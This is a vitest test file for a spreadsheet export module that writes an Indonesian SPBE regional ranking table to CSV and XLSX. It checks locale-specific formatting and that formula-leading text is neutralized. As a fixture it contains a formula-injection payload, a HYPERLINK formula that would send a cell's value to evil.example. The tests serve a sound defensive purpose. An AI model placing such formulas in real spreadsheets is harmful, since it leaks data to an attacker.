import { describe, expect, it } from "vitest";
import { readSpreadsheet } from "./import.server";
import { type ExportTable, neutralizeFormula, tableToCsv, tableToXlsx } from "./export.server";

const table: ExportTable = {
  name: "peringkat-spbe-2024",
  columns: [
    { header: "daerah", description: "Nama daerah", type: "text" },
    { header: "indeks", description: "Indeks SPBE", type: "decimal", decimals: 2 },
    { header: "perubahan", description: "Perubahan", type: "decimal", decimals: 2 },
    { header: "peringkat", description: "Peringkat", type: "integer" },
  ],
  rows: [
    ["Kabupaten Sumedang", 4.51, -0.1, 1],
    ['=HYPERLINK("https://evil.example/?leak="&B2;"klik")', 3.6, null, 2],
  ],
  sources: [{ citation: "eljabar.com", url: "https://eljabar.com/x", usedFor: "Kabupaten Sumedang" }],
  labels: { sourcesSheet: "Sumber", columnsSheet: "Kolom", citation: "Sumber", url: "Tautan", usedFor: "Dipakai untuk", column: "Kolom", description: "Keterangan" },
};

describe("tableToCsv", () => {
  it("writes Indonesian Excel's style: semicolons, decimal commas, BOM, CRLF", () => {
    const csv = tableToCsv(table, "id");
    expect(csv.startsWith("\uFEFFdaerah;indeks;perubahan;peringkat\r\n")).toBe(true);
    expect(csv).toContain("Kabupaten Sumedang;4,51;-0,10;1\r\n");
  });

  it("writes the international style: commas and decimal points", () => {
    expect(tableToCsv(table, "intl")).toContain("Kabupaten Sumedang,4.51,-0.10,1\r\n");
  });

  it("never lets a text cell start a formula", () => {
    const csv = tableToCsv(table, "id");
    expect(csv).toContain(`"'=HYPERLINK(""https://evil.example/?leak=""&B2;""klik"")";3,60;;2`);
    for (const start of ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"]) expect(neutralizeFormula(start)).toBe(`'${start}`);
    expect(neutralizeFormula("Kota Batu")).toBe("Kota Batu");
  });
});

describe("tableToXlsx", () => {
  it("writes numbers as numbers, text as text, and sheets of sources and columns", async () => {
    const workbook = await tableToXlsx(table);
    const read = await readSpreadsheet(workbook);
    if (!read.ok) throw new Error(read.problem);
    expect(read.rows.map((row) => row.cells)).toEqual([
      ["daerah", "indeks", "perubahan", "peringkat"],
      ["Kabupaten Sumedang", 4.51, -0.1, 1],
      ['\'=HYPERLINK("https://evil.example/?leak="&B2;"klik")', 3.6, null, 2],
    ]);
  });
});
